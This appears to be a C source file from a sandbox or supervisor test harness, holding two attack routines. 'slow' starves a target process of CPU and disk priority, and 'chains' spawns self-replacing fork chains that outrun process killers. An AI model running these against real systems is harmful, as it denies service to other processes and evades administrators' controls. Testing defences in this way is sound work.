#include "attack.h"

#include <linux/ioprio.h>
#include <sys/resource.h>

/* slow PID: takes the processor, the disk and the nicer half of the machine away from a process outside. */
int slow(int argc, char **argv)
{
	pid_t pid = argc > 0 ? (pid_t)number(argv[0]) : 0;
	struct sched_param none = { 0 };
	cpu_set_t one;
	CPU_ZERO(&one);
	CPU_SET(0, &one);
	tell("nice", setpriority(PRIO_PROCESS, (id_t)pid, 19));
	tell("nice-all", setpriority(PRIO_USER, 0, 19));
	tell("processors", sched_setaffinity(pid, sizeof one, &one));
	tell("scheduler", sched_setscheduler(pid, SCHED_IDLE, &none));
	tell("parameters", sched_setparam(pid, &none));
	tell("disk", syscall(SYS_ioprio_set, IOPRIO_WHO_PROCESS, pid, IOPRIO_PRIO_VALUE(IOPRIO_CLASS_IDLE, 0)));
	tell("neighbour", setpriority(PRIO_PROCESS, 0, 19));
	tell("neighbour-processors", sched_setaffinity(0, sizeof one, &one));
	return 0;
}

/* chains NAME: processes that each live for a moment, make the next and end: whoever looks for them and then
 * kills what it found comes too late. The first goes on for a while, so that all of them are on their way. */
int chains(int argc, char **argv)
{
	const char *name = argc > 0 ? argv[0] : "chain";
	int file = open(name, O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (file < 0)
		return 1;
	for (int i = 0; i < 8; i++) {
		if (fork() != 0)
			continue;
		setsid();
		for (;;) {
			if (write(file, "x", 1) != 1)
				_exit(1);
			if (fork() != 0)
				_exit(0);
		}
	}
	usleep(200 * 1000);
	puts("chains ok");
	return 0;
}
